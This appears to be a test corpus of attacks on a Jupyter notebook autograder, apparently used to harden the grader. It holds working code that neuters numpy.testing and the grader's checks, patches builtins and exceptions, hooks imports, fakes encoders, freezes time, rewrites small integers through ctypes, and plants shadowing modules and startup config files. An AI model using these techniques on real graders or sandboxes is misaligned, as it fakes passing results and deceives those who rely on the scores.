"""The judge's tools are changed under its hands: NumPy, its testing module, builtins, the random generators, classes."""

# ruff: noqa: E501  (the lines of attackers are as long as they are)

from functools import partial

from attacks.corpus import attack, code

code = partial(code, theme="patched libraries")
attack = partial(attack, theme="patched libraries")

code(
    "numpy-testing-patched",
    "replaces all of numpy.testing, allclose, abs, max and isfinite by functions that agree",
    """
import numpy, numpy.testing
for name in dir(numpy.testing):
    if name.startswith('assert'):
        setattr(numpy.testing, name, lambda *a, **k: None)
numpy.allclose = numpy.array_equal = numpy.isclose = lambda *a, **k: True
""",
    answers={"softsign": "def softsign_derivative(h):\n    return (1 - abs(h)) ** 2"},
    earns={"softsign": 1},
)
code(
    "numpy-abs-is-zero",
    "abs, absolute, max and subtract of NumPy say zero",
    """
import numpy
numpy.abs = numpy.absolute = lambda a, *r, **k: numpy.zeros(numpy.shape(a))
numpy.max = numpy.amax = lambda *a, **k: 0.0
numpy.subtract = lambda a, b, *r, **k: numpy.zeros(numpy.shape(a))
""",
)
code(
    "checks-emptied",
    "replaces the code of every function of the checker by one that does nothing",
    """
import types
def nothing(*a, **k):
    return None
import autograder
for name, module in list(sys.modules.items()):
    if name.startswith('autograder'):
        for thing in list(vars(module).values()):
            if isinstance(thing, types.FunctionType) and thing.__module__.startswith('autograder') and not thing.__code__.co_freevars:
                thing.__code__ = nothing.__code__
""",
)
code(
    "comparison-always-right",
    "only the comparison is changed: every verdict is right and every error zero",
    """
try:
    from autograder.checks import checking, comparing, failures
    right = lambda output, *a, **k: failures.Verdict(output, True, '')
    checking.judge = comparing.judge = right
    checking.relative_error = lambda *a, **k: np.zeros(1)
    checking._fail = lambda *a, **k: None
except Exception as error:
    print(type(error))
""",
)
code(
    "builtins-patched",
    "replaces abs, len, isinstance, print, compile, exec and __build_class__ in builtins",
    """
import builtins
builtins.abs = lambda *a: 0.0
builtins.len = lambda *a: 6
builtins.all = builtins.any = builtins.callable = lambda *a: True
builtins.max = lambda *a, **k: 0.0
""",
)
code(
    "exceptions-patched",
    "makes AssertionError and CheckFailure swallow themselves, in C where Python does not let it",
    """
import builtins
class Quiet(Exception):
    def __init__(self, *a, **k): pass
builtins.AssertionError = Quiet
for module in list(sys.modules.values()):
    for name in ('CheckFailure', 'AssertionError'):
        if hasattr(module, name):
            try: setattr(module, name, Quiet)
            except Exception: pass
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: [])
sys.excepthook = lambda *a: None
""",
)
code(
    "import-hook",
    "a finder at the front of sys.meta_path gives changed copies of numpy, autograder, json, base64 and zmq",
    """
import importlib.abc, importlib.util
class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name.split('.')[0] in ('numpy', 'autograder', 'json', 'base64'):
            return importlib.util.spec_from_loader(name, self)
    def create_module(self, spec): return None
    def exec_module(self, module):
        module.__getattr__ = lambda name: (lambda *a, **k: True)
sys.meta_path.insert(0, Finder())
for name in [m for m in sys.modules if m.split('.')[0] in ('autograder', 'json', 'base64')]:
    del sys.modules[name]
""",
)
code(
    "encoders-patched",
    "json, base64, struct, numpy.save and numpy.lib.format encode something else than what they are given",
    """
import base64, io, json, numpy
import numpy.lib.format
json.dumps = lambda *a, **k: '{"ok": true, "value": true}'
json.JSONEncoder.encode = lambda self, o: '{"ok": true}'
base64.b64encode = lambda data, *a: b'AAAA' * 10
numpy.save = lambda *a, **k: None
numpy.lib.format.write_array = lambda *a, **k: None
""",
)
code(
    "dtype-and-shape-patched",
    "results whose shape, dtype and strides are properties that answer differently each time",
    """
class Shifty(np.ndarray):
    looks = 0
    def __getattribute__(self, name):
        if name in ('shape', 'dtype', 'nbytes', 'size', '__class__', 'strides'):
            Shifty.looks += 1
            if Shifty.looks % 2:
                return {'shape': (10**9,), 'dtype': np.dtype(object), 'nbytes': 0, 'size': 1, '__class__': float, 'strides': (0,)}[name]
        return super().__getattribute__(name)
    def tobytes(self, *a): return b'x' * 7
    def __array__(self, *a, **k): return np.zeros((3, 3))
    def __reduce__(self): return (leaked, ('unpickled',))
    __reduce_ex__ = lambda self, p: (leaked, ('unpickled',))
""",
    answers={
        "step-forward": "def step_forward(x, h_prev, W, U, b):\n    return np.zeros_like(h_prev).view(Shifty)",
        "scale-rows": "def scale_rows(A, factors):\n    return np.zeros_like(A).view(Shifty)",
        "moving-average": "def moving_average(x, decay):\n    return [Shifty((2,)), memoryview(b'x'), {1, 2}, ...]",
    },
    honest=["softsign"],
)
code(
    "frozen-time-and-signals",
    "stops the clocks, disarms alarms and ignores interrupts, so that no time limit is ever reached",
    """
import signal, time
time.time = time.monotonic = time.perf_counter = time.process_time = lambda: 0.0
signal.setitimer = signal.alarm = lambda *a: (0.0, 0.0)
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGPROF, signal.SIGXCPU, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
signal.signal = lambda *a: None
""",
    honest=["softsign"],
)
code(
    "memory-of-small-integers",
    "changes the value of 0, 1 and True in this process by writing into the objects",
    """
def poke(number, value):
    ctypes.cast(id(number) + 24, ctypes.POINTER(ctypes.c_uint32))[0] = value
""",
    answers={
        "half-life": "half_life = 42.0\npoke(100, 42)\npoke(42, 7)",
        "is-stable": "def is_stable(U):\n    ctypes.cast(id(False) + 24, ctypes.POINTER(ctypes.c_uint32))[0] = 1\n    return False",
    },
)
code(
    "tolerances-changed",
    "finfo and the tolerance of the checks say that everything is close",
    """
import numpy
numpy.finfo = lambda *a: type('f', (), {'eps': 1e9, 'tiny': 1, 'resolution': 1e9, 'max': 1e308})
try:
    from autograder.checks import checking, question
    checking.tolerance = question.tolerance = lambda *a, **k: 1e9
except Exception as error:
    print(type(error))
""",
)


@attack(
    "modules-beside-the-notebook", "hands in numpy.py, json.py, autograder/ and sitecustomize.py", honest=["softsign"]
)
def modules_beside(notebook, known):
    import nbformat

    text = "import sys\nprint('LEA' + 'KED a module beside the notebook was imported')\ndef __getattr__(name):\n"
    text += "    if name.startswith('__'): raise AttributeError(name)\n    return lambda *a, **k: True\n"

    def tree(folder):
        (folder / "numpy.ipynb").write_text(nbformat.writes(notebook), encoding="utf-8")
        for name in ("numpy", "json", "sitecustomize", "usercustomize", "zmq", "torch", "ipykernel_launcher", "base64"):
            (folder / f"{name}.py").write_text(text, encoding="utf-8")
        (folder / "autograder").mkdir()
        (folder / "autograder" / "__init__.py").write_text(text, encoding="utf-8")

    return tree


@attack(
    "settings-beside-the-notebook",
    "hands in configuration for nbgrader, Jupyter, IPython, pip, pytest and the shell",
    honest=["softsign"],
)
def settings_beside(notebook, known):
    import nbformat

    drop = f"{known['drops'][0]}/config"
    text = f"print('LEA' + 'KED a configuration file was run')\nopen({drop!r}, 'w').write('x')\n"

    def tree(folder):
        (folder / "numpy.ipynb").write_text(nbformat.writes(notebook), encoding="utf-8")
        names = [
            "nbgrader_config.py",
            "jupyter_config.py",
            "ipython_config.py",
            "ipython_kernel_config.py",
            "conftest.py",
        ]
        names += ["jupyter_nbconvert_config.py", "setup.py", "profile_default/startup/00-first.py", "kernel.json"]
        names += [".ipython/profile_default/startup/00-first.py", ".jupyter/jupyter_config.py", "x.pth", ".env"]
        for name in names:
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(text, encoding="utf-8")

    return tree
